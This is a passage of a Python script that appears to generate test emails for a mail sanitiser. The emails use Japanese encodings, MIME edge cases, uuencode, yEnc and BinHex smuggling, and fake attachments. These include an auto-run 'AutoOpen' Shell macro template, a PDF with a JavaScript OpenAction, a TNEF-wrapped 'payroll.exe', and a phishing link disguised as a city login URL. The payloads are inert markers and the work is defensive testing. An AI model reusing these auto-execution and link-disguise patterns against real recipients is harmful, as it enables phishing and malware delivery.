#!/usr/bin/env python3
"""Generate the mugai test corpus.

Writes ``testdata/mails/NN-short-name.eml`` and a facts file ``NN-short-name.toml`` for every
case, rewrites ``testdata/README.md`` (format description + one line per case), then checks the
result with Python's ``email`` package and prints a summary table.

Standard library only, fully deterministic (fixed dates, fixed seeds): running it twice gives
byte-identical files.  Usage::

    python3 testdata/generate.py            # generate + verify
    python3 testdata/generate.py --check    # verify the files on disk only

The facts format is described in README.md.  Every ``payloads`` token is verified to be present
in the generated mail in some (possibly encoded) form, so "this token must not appear in the
output" is never a vacuous check.
"""

from __future__ import annotations

import base64
import binascii
import datetime
import email
import email.policy
import email.utils
import gzip
import hashlib
import html
import html.parser
import io
import pathlib
import quopri
import random
import re
import struct
import sys
import urllib.parse
import zipfile
import zlib

HERE = pathlib.Path(__file__).resolve().parent
OUT = HERE / "mails"
README = HERE / "README.md"

JST = datetime.timezone(datetime.timedelta(hours=9))

# --------------------------------------------------------------------------------------------
# Charsets
# --------------------------------------------------------------------------------------------


def _nec_selected_map() -> dict[str, bytes]:
    """char -> NEC-selected IBM extension bytes (rows 0xED/0xEE) in CP932."""
    m: dict[str, bytes] = {}
    for b1 in (0xED, 0xEE):
        for b2 in list(range(0x40, 0x7F)) + list(range(0x80, 0xFD)):
            try:
                ch = bytes([b1, b2]).decode("cp932")
            except UnicodeDecodeError:
                continue
            m.setdefault(ch, bytes([b1, b2]))
    return m


NEC_SELECTED = _nec_selected_map()


def sjis_to_jis(b1: int, b2: int) -> bytes:
    if b1 >= 0xE0:
        b1 -= 0x40
    b1 -= 0x81
    if b2 < 0x9F:
        row = b1 * 2
        col = b2 - 0x40 - (1 if b2 >= 0x80 else 0)
    else:
        row = b1 * 2 + 1
        col = b2 - 0x9F
    return bytes([0x21 + row, 0x21 + col])


def jis_to_sjis(j1: int, j2: int) -> bytes:
    row, col = j1 - 0x21, j2 - 0x21
    b1 = row // 2 + 0x81
    if b1 > 0x9F:
        b1 += 0x40
    if row % 2 == 0:
        b2 = col + 0x40
        if b2 >= 0x7F:
            b2 += 1
    else:
        b2 = col + 0x9F
    return bytes([b1, b2])


def enc_cp50221(s: str) -> bytes:
    """ISO-2022-JP with the CP932 extensions (what Outlook sends as 'iso-2022-jp')."""
    out = bytearray()
    mode = "ascii"
    for ch in s:
        if ord(ch) < 0x80:
            if mode != "ascii":
                out += b"\x1b(B"
                mode = "ascii"
            out.append(ord(ch))
            continue
        sj = ch.encode("cp932")
        if len(sj) != 2:
            raise ValueError(f"no JIS X 0208 code for {ch!r}")
        if sj[0] in (0xFA, 0xFB, 0xFC):
            sj = NEC_SELECTED[ch]
        if mode != "jis":
            out += b"\x1b$B"
            mode = "jis"
        out += sjis_to_jis(sj[0], sj[1])
    if mode != "ascii":
        out += b"\x1b(B"
    return bytes(out)


def dec_cp50221(data: bytes) -> str:
    out = []
    mode = "ascii"
    i = 0
    while i < len(data):
        if data[i] == 0x1B:
            seq = data[i + 1 : i + 3]
            if seq in (b"(B", b"(J"):
                mode = "ascii"
            elif seq in (b"$B", b"$@"):
                mode = "jis"
            elif seq == b"(I":
                mode = "kana"
            i += 3
            continue
        b = data[i]
        if b in (0x0A, 0x0D):
            out.append(chr(b))
            i += 1
            continue
        if mode == "jis" and i + 1 < len(data):
            out.append(jis_to_sjis(data[i], data[i + 1]).decode("cp932", "replace"))
            i += 2
        elif mode == "kana":
            out.append(bytes([b + 0x80]).decode("cp932", "replace"))
            i += 1
        else:
            out.append(chr(b))
            i += 1
    return "".join(out)


def encode_cs(s: str, charset: str) -> bytes:
    c = charset.lower()
    if c == "iso-2022-jp":
        return enc_cp50221(s)
    if c in ("shift_jis", "x-sjis", "windows-31j", "cp932", "sjis"):
        return s.encode("cp932")
    if c == "euc-jp":
        return s.encode("euc_jp")
    return s.encode(c)


def decode_cs(data: bytes, charset: str) -> str:
    c = (charset or "us-ascii").lower().strip('"')
    if c in ("iso-2022-jp", "csiso2022jp"):
        return dec_cp50221(data)
    if c in ("shift_jis", "shift-jis", "sjis", "x-sjis", "windows-31j", "cp932", "ms_kanji", "csshiftjis"):
        return data.decode("cp932", "replace")
    if c in ("euc-jp", "x-euc-jp"):
        return data.decode("euc_jp", "replace")
    if c in ("us-ascii", "ascii"):
        c = "utf-8"
    try:
        return data.decode(c, "replace")
    except LookupError:
        return data.decode("utf-8", "replace")


def ew(text: str, charset: str = "UTF-8", chunk: int = 10) -> str:
    """RFC 2047 B-encoded words, each self-contained, folded with CRLF+space."""
    words = []
    for i in range(0, len(text), chunk):
        piece = encode_cs(text[i : i + chunk], charset)
        words.append(f"=?{charset}?B?{base64.b64encode(piece).decode()}?=")
    return "\n ".join(words)


_EW = re.compile(r"=\?([^?]+)\?([BbQq])\?([^?]*)\?=")


def decode_rfc2047(value: str) -> str:
    out = []
    pos = 0
    last_was_ew = False
    for m in _EW.finditer(value):
        between = value[pos : m.start()]
        if not (last_was_ew and between.strip() == ""):
            out.append(between)
        cs, kind, data = m.group(1).split("*")[0], m.group(2).upper(), m.group(3)
        if kind == "B":
            raw = base64.b64decode(data + "=" * (-len(data) % 4))
        else:
            raw = quopri.decodestring(data.replace("_", " ").encode(), header=True)
        out.append(decode_cs(raw, cs))
        pos = m.end()
        last_was_ew = True
    out.append(value[pos:])
    return "".join(out)


def rfc2231(param: str, value: str, seg: int = 45) -> str:
    """`param*=UTF-8''...` or continuations `param*0*=...; param*1*=...`."""
    q = urllib.parse.quote(value.encode("utf-8"), safe="")
    if len(q) <= seg:
        return f"{param}*=UTF-8''{q}"
    parts = []
    cur = ""
    for tok in re.findall(r"%[0-9A-F]{2}|.", q):
        if len(cur) + len(tok) > seg:
            parts.append(cur)
            cur = ""
        cur += tok
    parts.append(cur)
    segs = []
    for i, p in enumerate(parts):
        segs.append(f"{param}*{i}*=" + ("UTF-8''" if i == 0 else "") + p)
    return ";\n ".join(segs)


# --------------------------------------------------------------------------------------------
# MIME building (everything is built with "\n" and converted per case at the end)
# --------------------------------------------------------------------------------------------


def B(x) -> bytes:
    return x if isinstance(x, bytes) else x.encode("utf-8")


def part(headers, body) -> bytes:
    h = b"".join(B(x) + b"\n" for x in headers)
    body = B(body)
    if not body.endswith(b"\n"):
        body += b"\n"
    return h + b"\n" + body


def multipart(boundary: str, parts, preamble=None, epilogue=None, close=True) -> bytes:
    out = b""
    if preamble is not None:
        out += B(preamble) + b"\n"
    for p in parts:
        out += b"--" + B(boundary) + b"\n" + p
        if not p.endswith(b"\n"):
            out += b"\n"
    if close:
        out += b"--" + B(boundary) + b"--\n"
    if epilogue is not None:
        out += B(epilogue) + b"\n"
    return out


def b64(data: bytes) -> bytes:
    return base64.encodebytes(data)


def qp(data: bytes) -> bytes:
    return quopri.encodestring(data)


def addr(display: str, address: str) -> str:
    if display.isascii():
        return f'"{display}" <{address}>'
    return f"{ew(display, chunk=12)} <{address}>"


def date_for(nn: int) -> str:
    base = datetime.datetime(2024, 5, 7, 8, 30, 0, tzinfo=JST)
    return email.utils.format_datetime(base + datetime.timedelta(hours=5 * nn, minutes=7 * nn))


def msgid(nn: int, dom: str = "mail.example.co.jp") -> str:
    h = hashlib.sha1(f"mugai-{nn}".encode()).hexdigest()[:16].upper()
    return f"<{20240507 + nn}{h}@{dom}>"


def std_headers(nn, subject=None, *, frm=None, to=None, subject_raw: bytes | None = None,
                subject_charset="UTF-8", extra=(), received=True):
    frm = frm or addr("株式会社テスト商事 営業部 佐藤", "sato@example.co.jp")
    to = to or addr("架空市 総務課", "somu@city.example.lg.jp")
    h = []
    if received:
        h.append(f"Received: from mail.example.co.jp (mail.example.co.jp [192.0.2.{10 + nn % 200}])\n"
                 f"\tby mx1.city.example.lg.jp (Postfix) with ESMTPS id 4V{nn:02d}Kx0Yz\n"
                 f"\tfor <somu@city.example.lg.jp>; {date_for(nn)}")
    h.append(f"From: {frm}")
    h.append(f"To: {to}")
    if subject_raw is not None:
        h.append(b"Subject: " + subject_raw)
    elif subject is not None:
        h.append("Subject: " + (subject if subject.isascii() else ew(subject, subject_charset)))
    h.append(f"Date: {date_for(nn)}")
    h.append(f"Message-ID: {msgid(nn)}")
    h.append("MIME-Version: 1.0")
    h.extend(extra)
    return h


def text_part(text: str, charset="UTF-8", cte="8bit", extra=()) -> bytes:
    raw = encode_cs(text, charset)
    if cte == "base64":
        body = b64(raw)
    elif cte == "quoted-printable":
        body = qp(raw)
    else:
        body = raw
    return part([f"Content-Type: text/plain; charset={charset}", f"Content-Transfer-Encoding: {cte}", *extra], body)


def html_part(markup: str, charset="UTF-8", cte="quoted-printable") -> bytes:
    raw = encode_cs(markup, charset)
    body = {"base64": b64, "quoted-printable": qp}.get(cte, lambda x: x)(raw)
    return part([f"Content-Type: text/html; charset={charset}", f"Content-Transfer-Encoding: {cte}"], body)


def attach(data: bytes, ctype: str, fname: str, *, disposition="attachment", extra=()) -> bytes:
    if fname.isascii():
        ct = f'{ctype}; name="{fname}"'
        cd = f'{disposition}; filename="{fname}"'
    else:
        ct = f'{ctype};\n name="{ew(fname, chunk=8)}"'
        cd = f"{disposition};\n " + rfc2231("filename", fname)
    return part([f"Content-Type: {ct}", "Content-Transfer-Encoding: base64", f"Content-Disposition: {cd}", *extra],
                b64(data))


def tok(nn: int, kind: str) -> str:
    return f"PAYLOAD-{nn:02d}-{kind}-{hashlib.sha1(f'{nn}/{kind}'.encode()).hexdigest()[:4]}"


def mk(nn: int, kind: str) -> str:
    return f"MARKER-{nn:02d}-{kind}"


# --------------------------------------------------------------------------------------------
# File formats
# --------------------------------------------------------------------------------------------


def make_pdf(title: str, payload: str | None) -> bytes:
    content = f"BT /F1 18 Tf 72 760 Td ({title}) Tj ET".encode()
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R" + (b" /OpenAction 5 0 R" if payload else b"") + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 6 0 R >> >> "
        b"/Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Action /S /JavaScript /JS (app.alert\\('" + (payload or "").encode() + b"'\\);) >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(out))
        out += b"%d 0 obj\n" % i + o + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    out += b"".join(b"%010d 00000 n \n" % x for x in offs)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    return bytes(out)


def make_pe(payload: str, size: int = 1024) -> bytes:
    dos = bytearray(0x80)
    dos[0:2] = b"MZ"
    struct.pack_into("<HHHHHHHHHH", dos, 2, 0x90, 3, 0, 4, 0, 0xFFFF, 0, 0xB8, 0, 0)
    struct.pack_into("<I", dos, 0x3C, 0x80)
    stub = b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
    dos[0x40 : 0x40 + len(stub)] = stub
    coff = b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x14C, 1, 0x66000000, 0, 0, 0xE0, 0x0102)
    opt = bytearray(0xE0)
    struct.pack_into("<HBBIIIIII", opt, 0, 0x10B, 14, 0, 0x200, 0, 0, 0x1000, 0x1000, 0x2000)
    sect = b".text\x00\x00\x00" + struct.pack("<IIIIIIHHI", 0x200, 0x1000, 0x200, 0x200, 0, 0, 0, 0, 0x60000020)
    body = bytes(dos) + coff + bytes(opt) + sect
    body += b"\x00" * (0x200 - len(body))
    code = b"\x55\x8b\xec\x6a\x00\x68" + payload.encode() + b"\x00\xff\x15\x00\x20\x40\x00\xc9\xc3"
    body += code
    if len(body) < size:
        body += bytes((i * 7 + 3) & 0xFF for i in range(size - len(body)))
    return body


def make_elf(payload: str) -> bytes:
    hdr = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8
    hdr += struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    ph = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 512, 512, 0x1000)
    body = hdr + ph
    body += b"\x00" * (0x100 - len(body)) + b"\x48\x31\xc0\xb0\x3c\x0f\x05" + payload.encode() + b"\x00"
    return body + bytes((i * 13) & 0xFF for i in range(300))


def make_zip(entries, encrypted: bool = False) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data in entries:
            zi = zipfile.ZipInfo(name, date_time=(2024, 5, 10, 9, 30, 0))
            zi.compress_type = zipfile.ZIP_STORED
            zi.external_attr = 0o644 << 16
            zi.create_system = 0
            zf.writestr(zi, data)
    b = bytearray(buf.getvalue())
    if encrypted:
        eocd = b.rfind(b"PK\x05\x06")
        n = struct.unpack_from("<H", b, eocd + 10)[0]
        p = struct.unpack_from("<I", b, eocd + 16)[0]
        for _ in range(n):
            assert b[p : p + 4] == b"PK\x01\x02"
            struct.pack_into("<H", b, p + 8, struct.unpack_from("<H", b, p + 8)[0] | 1)
            nlen, elen, clen = struct.unpack_from("<HHH", b, p + 28)
            lho = struct.unpack_from("<I", b, p + 42)[0]
            assert b[lho : lho + 4] == b"PK\x03\x04"
            struct.pack_into("<H", b, lho + 6, struct.unpack_from("<H", b, lho + 6)[0] | 1)
            p += 46 + nlen + elen + clen
    return bytes(b)


def make_ooxml(kind: str, payload: str, macro_payload: str | None = None) -> bytes:
    if kind == "docx":
        ct_main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
        main = "word/document.xml"
        doc = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
               '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
               f'<w:body><w:p><w:r><w:t>{payload} 報告書本文</w:t></w:r></w:p></w:body></w:document>')
    else:
        ct_main = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
        main = "xl/workbook.xml"
        doc = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
               '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
               f'<sheets><sheet name="一覧" sheetId="1"/></sheets><definedNames><definedName name="x">{payload}'
               '</definedName></definedNames></workbook>')
    ctypes = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
              '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
              '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
              '<Default Extension="xml" ContentType="application/xml"/>'
              f'<Override PartName="/{main}" ContentType="{ct_main}"/></Types>')
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            f'officeDocument" Target="{main}"/></Relationships>')
    entries = [("[Content_Types].xml", ctypes.encode()), ("_rels/.rels", rels.encode()), (main, doc.encode())]
    if macro_payload:
        entries.append((main.split("/")[0] + "/vbaProject.bin",
                        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 24 + b"Attribute VB_Name = \"Module1\"\r\n"
                        b"Sub AutoOpen()\r\n Shell \"" + macro_payload.encode() + b"\"\r\nEnd Sub\r\n"))
    return make_zip(entries)


def make_ole2(payload: str) -> bytes:
    hdr = bytearray(512)
    hdr[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", hdr, 0x18, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIII", hdr, 0x2C, 1, 1, 0, 0x1000, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    struct.pack_into("<I", hdr, 0x4C, 0)
    for i in range(1, 109):
        struct.pack_into("<I", hdr, 0x4C + 4 * i, 0xFFFFFFFF)
    fat = bytearray(b"\xff" * 512)
    struct.pack_into("<III", fat, 0, 0xFFFFFFFD, 0xFFFFFFFE, 0xFFFFFFFE)
    dirent = bytearray(512)
    nm = "Root Entry".encode("utf-16-le")
    dirent[0 : len(nm)] = nm
    struct.pack_into("<HB", dirent, 64, len(nm) + 2, 5)
    nm2 = "Workbook".encode("utf-16-le")
    dirent[128 : 128 + len(nm2)] = nm2
    struct.pack_into("<HB", dirent, 128 + 64, len(nm2) + 2, 2)
    data = bytearray(512)
    blob = b"\x09\x08\x10\x00\x00\x06\x05\x00" + payload.encode() + b"\x00Microsoft Excel 97-2003 Worksheet"
    data[0 : len(blob)] = blob
    return bytes(hdr + fat + dirent + data)


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def make_png(payload: str) -> bytes:
    ihdr = struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0)
    raw = b"\x00\xff\x00\x00\x00\x00\xff" * 1 + b"\x00\x00\x00\xff\xff\xff\xff"
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + png_chunk(b"tEXt", b"Comment\x00" + payload.encode())
            + png_chunk(b"IDAT", zlib.compress(raw, 9)) + png_chunk(b"IEND", b""))


def make_jpeg(payload: str) -> bytes:
    app0 = b"JFIF\x00\x01\x01\x00\x00\x48\x00\x48\x00\x00"
    com = payload.encode()
    seg = lambda m, d: b"\xff" + bytes([m]) + struct.pack(">H", len(d) + 2) + d  # noqa: E731
    dqt = b"\x00" + bytes(range(1, 65))
    sof = b"\x08\x00\x01\x00\x01\x01\x01\x11\x00"
    return (b"\xff\xd8" + seg(0xE0, app0) + seg(0xFE, com) + seg(0xDB, dqt) + seg(0xC0, sof)
            + b"\xff\xd9")


def make_tnef(payload: str) -> bytes:
    def attr(level, aid, data):
        return bytes([level]) + struct.pack("<II", aid, len(data)) + data + struct.pack("<H", sum(data) & 0xFFFF)
    out = struct.pack("<IH", 0x223E9F78, 0x0123)
    out += attr(1, 0x00089006, struct.pack("<I", 0x00010000))
    out += attr(1, 0x00078008, b"IPM.Microsoft Mail.Note\x00")
    out += attr(2, 0x00069002, struct.pack("<I", 1))
    out += attr(2, 0x00018010, b"payroll.exe\x00")
    out += attr(2, 0x0006800F, make_pe(payload, 600))
    return out


# --------------------------------------------------------------------------------------------
# Smuggling encoders (uuencode, yEnc, BinHex 4.0)
# --------------------------------------------------------------------------------------------


def uu_lines(data: bytes, name: str) -> list[bytes]:
    lines = [f"begin 644 {name}".encode()]
    for i in range(0, len(data), 45):
        lines.append(binascii.b2a_uu(data[i : i + 45], backtick=True).rstrip(b"\n"))
    lines += [b"`", b"end"]
    return lines


def uu_bytes_for_text(literal: str) -> bytes:
    """Bytes whose uuencoding is exactly `literal` (length multiple of 4, chars ' '..'_')."""
    assert len(literal) % 4 == 0
    out = bytearray()
    for i in range(0, len(literal), 4):
        v = [(ord(c) - 32) & 63 for c in literal[i : i + 4]]
        out += bytes([(v[0] << 2 | v[1] >> 4) & 255, (v[1] << 4 | v[2] >> 2) & 255, (v[2] << 6 | v[3]) & 255])
    return bytes(out)


def uu_decode_blocks(raw: bytes) -> list[bytes]:
    out = []
    for m in re.finditer(rb"^begin [0-7]{3,4} [^\r\n]*\r?\n(.*?)^end", raw, re.S | re.M):
        data = bytearray()
        for line in m.group(1).splitlines():
            if not line.strip():
                continue
            try:
                data += binascii.a2b_uu(line)
            except binascii.Error:
                pass
        out.append(bytes(data))
    return out


def yenc_lines(data: bytes, name: str, line: int = 128) -> list[bytes]:
    out = [f"=ybegin line={line} size={len(data)} name={name}".encode()]
    cur = bytearray()
    for b in data:
        e = (b + 42) & 0xFF
        if e in (0x00, 0x0A, 0x0D, 0x3D, 0x09, 0x20) or (e == 0x2E and not cur):
            cur += bytes([0x3D, (e + 64) & 0xFF])
        else:
            cur.append(e)
        if len(cur) >= line:
            out.append(bytes(cur))
            cur = bytearray()
    if cur:
        out.append(bytes(cur))
    out.append(f"=yend size={len(data)} crc32={zlib.crc32(data) & 0xFFFFFFFF:08x}".encode())
    return out


def yenc_decode_blocks(raw: bytes) -> list[bytes]:
    out = []
    for m in re.finditer(rb"^=ybegin [^\r\n]*\r?\n(.*?)^=yend", raw, re.S | re.M):
        data = bytearray()
        for line in re.split(rb"\r?\n", m.group(1)):
            if line.startswith(b"=ypart"):
                continue
            i = 0
            while i < len(line):
                c = line[i]
                if c == 0x3D and i + 1 < len(line):
                    data.append((line[i + 1] - 64 - 42) & 0xFF)
                    i += 2
                else:
                    data.append((c - 42) & 0xFF)
                    i += 1
        out.append(bytes(data))
    return out


HQX = b"!\"#$%&'()*+,-012345689@ABCDEFGHIJKLMNPQRSTUVXYZ[`abcdefhijklmpqr"


def crc_hqx(data: bytes, crc: int = 0) -> int:
    return binascii.crc_hqx(data, crc)


def hqx_rle(data: bytes) -> bytes:
    return data.replace(b"\x90", b"\x90\x00")


def hqx_6bit(data: bytes) -> bytes:
    out = bytearray()
    bits = 0
    nbits = 0
    for b in data:
        bits = (bits << 8) | b
        nbits += 8
        while nbits >= 6:
            nbits -= 6
            out.append(HQX[(bits >> nbits) & 63])
    if nbits:
        out.append(HQX[(bits << (6 - nbits)) & 63])
    return bytes(out)


def hqx_bytes_for_text(literal: str) -> bytes:
    assert len(literal) % 4 == 0
    bits = 0
    for c in literal:
        bits = (bits << 6) | HQX.index(c.encode())
    return bits.to_bytes(len(literal) * 3 // 4, "big")


def binhex_text(name: str, prefix: bytes, literal: str, suffix: bytes) -> bytes:
    crafted = hqx_bytes_for_text(literal)
    assert b"\x90" not in crafted
    for pad in range(0, 12):
        data = prefix + b" " * pad + crafted + suffix
        hdr = bytes([len(name)]) + name.encode() + b"\x00" + b"TEXT" + b"ttxt" + b"\x00\x00"
        hdr += struct.pack(">II", len(data), 0)
        hdr += struct.pack(">H", crc_hqx(hdr))
        before = hqx_rle(hdr + prefix + b" " * pad)
        if len(before) % 3 == 0:
            break
    else:
        raise AssertionError("cannot align BinHex literal")
    stream = hdr + data + struct.pack(">H", crc_hqx(data)) + struct.pack(">H", 0)
    enc = hqx_6bit(hqx_rle(stream))
    assert literal.encode() in enc
    text = b":" + enc + b":"
    lines = [text[i : i + 64] for i in range(0, len(text), 64)]
    return b"(This file must be converted with BinHex 4.0)\n" + b"\n".join(lines) + b"\n"


def binhex_decode_blocks(raw: bytes) -> list[bytes]:
    out = []
    for m in re.finditer(rb"\(This file must be converted with BinHex[^)]*\)\s*:([^:]*):", raw):
        chars = re.sub(rb"\s", b"", m.group(1))
        bits = 0
        nbits = 0
        dec = bytearray()
        for c in chars:
            idx = HQX.find(bytes([c]))
            if idx < 0:
                continue
            bits = (bits << 6) | idx
            nbits += 6
            if nbits >= 8:
                nbits -= 8
                dec.append((bits >> nbits) & 255)
        un = bytearray()
        i = 0
        while i < len(dec):
            if dec[i] == 0x90 and i + 1 < len(dec):
                n = dec[i + 1]
                if n == 0:
                    un.append(0x90)
                else:
                    un += bytes([un[-1]]) * (n - 1)
                i += 2
            else:
                un.append(dec[i])
                i += 1
        nlen = un[0]
        p = 1 + nlen + 1 + 10
        dlen = struct.unpack_from(">I", un, p)[0]
        p += 8 + 2
        out.append(bytes(un[p : p + dlen]))
    return out


# --------------------------------------------------------------------------------------------
# Cases
# --------------------------------------------------------------------------------------------

CASES = []


def case(name: str, eol: str = "crlf"):
    def deco(fn):
        CASES.append((name, eol, fn))
        return fn
    return deco


SAMPLE_FROM = addr("架空市 総務部 情報政策課 山田", "joho-seisaku@city.example.lg.jp")
SAMPLE_TO = addr("各課 庶務担当者", "shomu-all@city.example.lg.jp")


@case("sample-ja-html-attachments")
def c_sample(nn):
    subject = "【重要】令和6年度 住民税特別徴収税額通知の送付について"
    text = """各課 庶務担当者 様

いつもお世話になっております。
総務部 情報政策課の山田です。

令和6年度の住民税特別徴収税額通知（一覧表）を送付いたします。
添付の一覧表をご確認のうえ、6月14日（金）までに
内容に誤りがないかご回答ください。

■ 提出期限　令和6年6月14日（金）17時
■ 提出方法　電子申請システムから提出
■ 問合せ先　情報政策課（内線 2345）

詳細は市ホームページをご覧ください。
https://www.city.example.lg.jp/kurashi/zei/juminzei.html

電子申請システムへのログインはこちら：
https://evil.example.com/login

--
架空市 総務部 情報政策課　山田 太郎
〒100-0001 架空市本町1-2-3
TEL 03-1234-5678（内線 2345）
"""
    comment = tok(nn, "COMMENT")
    markup = f"""<!DOCTYPE html>
<html lang="ja"><head><meta charset="UTF-8"><title>住民税特別徴収税額通知</title></head>
<body style="font-family: 'Meiryo', sans-serif;">
<!-- {comment} -->
<p>各課 庶務担当者 様</p>
<p>いつもお世話になっております。<br>総務部 情報政策課の山田です。</p>
<p>令和6年度の<b>住民税特別徴収税額通知</b>（一覧表）を送付いたします。<br>
添付の一覧表をご確認のうえ、<span style="color:#c00">6月14日（金）</span>までに内容に誤りがないかご回答ください。</p>
<table border="1" cellpadding="4" style="border-collapse: collapse;">
<tr><th>項目</th><th>内容</th></tr>
<tr><td>提出期限</td><td>令和6年6月14日（金）17時</td></tr>
<tr><td>提出方法</td><td>電子申請システムから提出</td></tr>
<tr><td>問合せ先</td><td>情報政策課（内線 2345）</td></tr>
</table>
<p>詳細は<a href="https://www.city.example.lg.jp/kurashi/zei/juminzei.html">市ホームページ</a>をご覧ください。</p>
<p>電子申請システムへのログインはこちら：<br>
<a href="https://evil.example.com/login">https://www.city.example.lg.jp/</a></p>
<img src="https://track.example.net/open.gif?id=8812" width="1" height="1">
<hr>
<p style="font-size: small;">架空市 総務部 情報政策課　山田 太郎<br>〒100-0001 架空市本町1-2-3<br>TEL 03-1234-5678（内線 2345）</p>
</body></html>
"""
    xlsx_tok = tok(nn, "XLSX")
    pdf_tok = tok(nn, "PDF")
    xlsx_name = "令和6年度_特別徴収税額一覧.xlsx"
    pdf_name = "説明資料.pdf"
    alt = multipart("----=_NextPart_001_0013_01DAA4F1.6C3B2E10", [
        text_part(text, "UTF-8", "8bit"),
        html_part(markup, "UTF-8", "quoted-printable"),
    ])
    body = multipart("----=_NextPart_000_0012_01DAA4F1.6C3B2E10", [
        part(['Content-Type: multipart/alternative;\n\tboundary="----=_NextPart_001_0013_01DAA4F1.6C3B2E10"'], alt),
        part(["Content-Type: application/vnd.openxmlformats-officedocument.spreadsheetml.sheet;\n"
              f'\tname="{ew(xlsx_name, chunk=8)}"',
              "Content-Transfer-Encoding: base64",
              "Content-Disposition: attachment;\n\t" + rfc2231("filename", xlsx_name).replace("\n ", "\n\t")],
             b64(make_ooxml("xlsx", xlsx_tok))),
        part([f'Content-Type: application/pdf;\n\tname="{ew(pdf_name, "ISO-2022-JP")}"',
              "Content-Transfer-Encoding: base64",
              f'Content-Disposition: attachment;\n\tfilename="{ew(pdf_name, "ISO-2022-JP")}"'],
             b64(make_pdf("Setsumei shiryo 2024", pdf_tok))),
    ], preamble="This is a multi-part message in MIME format.")
    hdr = std_headers(nn, subject, frm=SAMPLE_FROM, to=SAMPLE_TO, extra=[
        "X-Mailer: Microsoft Outlook 16.0",
        'Content-Type: multipart/mixed;\n\tboundary="----=_NextPart_000_0012_01DAA4F1.6C3B2E10"',
    ])
    return part(hdr, body), dict(
        description="Realistic municipal mail: mixed -> alternative(text, HTML with table and a deceptive link) "
                    "+ .xlsx (RFC 2231 Japanese name) + .pdf (ISO-2022-JP RFC 2047 name); the README demo input",
        markers=["住民税特別徴収税額通知", "提出期限", "電子申請システムから提出", "情報政策課",
                 "hxxps://www[.]city[.]example[.]lg[.]jp/kurashi/", "hxxps://evil[.]example[.]com/login"],
        listed=[xlsx_name, pdf_name],
        payloads=[comment, xlsx_tok, pdf_tok],
        subject=subject,
    )


@case("iso2022jp-plain")
def c_jis(nn):
    subject = "会議室予約システム停止のお知らせ"
    text = f"""関係各位

会議室予約システムの定期保守のため、下記の日程でサービスを停止します。
{mk(nn, "JIS")}

停止日時：5月18日（土）9時から17時まで
対象：庁内会議室予約システム

ご不便をおかけしますが、ご協力をお願いします。
情報システム課
"""
    body = b"".join(line.encode("iso2022_jp") + b"\n" for line in text.splitlines())
    hdr = std_headers(nn, subject, subject_charset="ISO-2022-JP", frm=addr("情報システム課", "joho@city.example.lg.jp"),
                      extra=["Content-Type: text/plain; charset=ISO-2022-JP", "Content-Transfer-Encoding: 7bit"])
    return part(hdr, body), dict(
        description="Plain ISO-2022-JP text mail, 7bit, Subject as =?ISO-2022-JP?B?...?=",
        markers=["会議室予約システム", "定期保守のため", "庁内会議室予約システム", mk(nn, "JIS")],
        subject=subject,
    )


@case("iso2022jp-cp932-extensions")
def c_jis_ext(nn):
    subject = "①会議のご案内（㈱テスト商事）"
    text = f"""髙橋様、山﨑様

お世話になっております。㈱テスト商事の髙橋です。
次回打合せの議題は以下の通りです。

①予算案の確認
②スケジュール調整
③その他

日時：5月20日 10:00～12:00
場所：本庁舎 第3会議室
{mk(nn, "CP50221")}
"""
    body = b"".join(enc_cp50221(line) + b"\n" for line in text.splitlines())
    hdr = std_headers(nn, subject, subject_charset="ISO-2022-JP",
                      extra=["Content-Type: text/plain; charset=\"iso-2022-jp\"", "Content-Transfer-Encoding: 7bit"])
    return part(hdr, body), dict(
        description="Labelled iso-2022-jp but uses CP50221 extensions (NEC row 13 ①②③㈱, NEC-selected IBM 髙﨑) "
                    "in body and Subject; must be decoded as CP50221, not strict ISO-2022-JP",
